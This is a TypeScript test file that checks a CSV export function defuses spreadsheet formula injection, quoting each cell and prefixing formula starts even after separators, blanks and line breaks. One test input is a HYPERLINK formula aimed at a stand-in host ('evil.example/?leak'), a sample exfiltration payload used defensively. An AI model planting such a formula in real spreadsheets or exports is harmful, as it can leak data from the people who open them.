import { describe, expect, it } from 'vitest';
import type { Application } from '../db/schema';
import { allowlistCsv, csvCell, toCsv } from './exports';

// CSV injection (issue 12 item 6): every cell quoted, formula starts defused after any separator too.
describe('CSV exports', () => {
	it('quotes every cell and defuses a formula at the start and after , ; tab | and line ends', () => {
		expect(csvCell('a;=2+5;@SUM(1+1)')).toBe(`"a;'=2+5;'@SUM(1+1)"`);
		expect(csvCell('=1+1')).toBe(`"'=1+1"`);
		expect(csvCell('x,-1|+2')).toBe(`"x,'-1|'+2"`);
		expect(csvCell('\t=1')).toBe(`"'\t'=1"`);
		expect(csvCell('line\n@x')).toBe(`"line\n'@x"`);
		expect(csvCell('say "hi"')).toBe(`"say ""hi"""`);
		expect(csvCell('plain-text 2026-01-01')).toBe('"plain-text 2026-01-01"');
		expect(csvCell(null)).toBe('""');
		expect(csvCell(new Date('2026-01-02T03:04:05.000Z'))).toBe('"2026-01-02T03:04:05.000Z"');
	});

	it('defuses a formula start also after blanks that follow the start, a separator or a line end (importers trim them)', () => {
		expect(csvCell('reach me; =1+1')).toBe(`"reach me; '=1+1"`);
		expect(csvCell('Nick; =HYPERLINK("http://evil.example/?leak","open")')).toBe(
			`"Nick; '=HYPERLINK(""http://evil.example/?leak"",""open"")"`
		);
		expect(csvCell('first line\n  @SUM(1+1)')).toBe(`"first line\n  '@SUM(1+1)"`);
		expect(csvCell('  =1+1')).toBe(`"  '=1+1"`);
		expect(csvCell('a,\u00a0\u3000+2|\t -3\r\n \r')).toBe(`"a,\u00a0\u3000'+2|'\t '-3\r\n '\r"`);
		// Blanks inside a phrase are not a cell boundary: a dash there stays as written.
		expect(csvCell('well - known')).toBe('"well - known"');
	});

	it('stays linear on a cell of blanks and formula starts (the lookbehind walks only blanks before one)', () => {
		const cell = ' '.repeat(100_000) + '=1';
		expect(csvCell(cell)).toBe(`"${' '.repeat(100_000)}'=1"`);
		expect(csvCell('- '.repeat(50_000))).toBe(`"'${'- '.repeat(50_000)}"`);
	});

	it('toCsv writes the header and rows with CRLF line ends', () => {
		expect(toCsv(['a', 'b'], [['1', null]])).toBe('"a","b"\r\n"1",""\r\n');
	});

	it('the allowlist CSV carries a contact of a;=2+5;@SUM(1+1) as text', () => {
		const row = {
			applicantAddress: '0x' + 'ab'.repeat(20),
			displayName: '@Ada',
			contact: 'a;=2+5;@SUM(1+1)',
			id: '00000000-0000-4000-8000-000000000000',
			createdAt: new Date('2026-01-01T00:00:00.000Z')
		} as Application;
		const [header, line] = allowlistCsv([row]).split('\r\n');
		expect(header).toBe('"address","display_name","contact","application_id","applied_at"');
		expect(line).toBe(
			`"0x${'ab'.repeat(20)}","'@Ada","a;'=2+5;'@SUM(1+1)","00000000-0000-4000-8000-000000000000","2026-01-01T00:00:00.000Z"`
		);
	});
});
